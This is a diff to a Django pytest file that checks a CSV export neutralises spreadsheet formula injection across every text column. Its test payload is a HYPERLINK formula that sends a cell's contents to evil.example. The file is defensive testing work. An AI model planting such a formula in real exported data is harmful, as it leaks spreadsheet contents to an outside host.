@@ -16,16 +16,25 @@ pytestmark = pytest.mark.django_db
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
 FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+NAMES = ("app", "entity", "record_id", "name", "link")
 
 
 @pytest.fixture
 def formula_entries(db):
     """One entry per character a formula may start with, that character first in each of its
-    texts (and in its mapping's and integration's names)."""
+    texts (and in its mapping's, apps' and integration's names, and the records' numbers)."""
     entries = []
     for start in FORMULA_STARTS:
         text = start + FORMULA
-        mapping = make_mapping(make_connection(name=text[:100]), name=start + "SUM(1+1)")
+        connection = make_connection(
+            name=text[:100], source_app=text[:100], destination_app=text[:100]
+        )
+        mapping = make_mapping(
+            connection,
+            name=start + "SUM(1+1)",
+            source_match_field="number",
+            destination_match_field="accountnumber",
+        )
         entries.append(
             make_error(
                 category=Category.CONFLICT,
@@ -41,6 +50,13 @@ def formula_entries(db):
                 destination_entity=text,
                 destination_record_id=text,
                 destination_url=start + "https://crm.example.com/x",
+                sent_values={
+                    "kind": "update",
+                    "direction": "to_destination",
+                    "sent": {"accountnumber": text},
+                    "read": {"number": text},
+                    "truncated": [],
+                },
             )
         )
         entries.append(make_error(category=Category.OTHER, integration=text, message=text))
@@ -77,19 +93,16 @@ def test_the_api_export_neutralises_formulas_in_every_column(formula_entries, st
 
 def test_every_text_column_was_tried():
     """The fixture puts a formula in every exported text; a new column must be added to it."""
-    numeric_or_chosen = {"id", "created_at", "category", "status", "job_id", "group_id"}
+    numeric_or_chosen = {
+        *("id", "created_at", "category", "status", "job_id", "group_id"),
+        *("source.gone", "destination.gone"),
+    }
     tried = {
         "status_note",
         "message",
         "integration",
         "mapping",
-        "source_app",
-        "source_entity",
-        "source_record_id",
-        "source_url",
-        "destination_app",
-        "destination_entity",
-        "destination_record_id",
-        "destination_url",
+        *(f"{side}.{name}" for side in ("source", "destination") for name in NAMES),
+        "direction",
     }
     assert {name for name, _ in COLUMNS} == numeric_or_chosen | tried
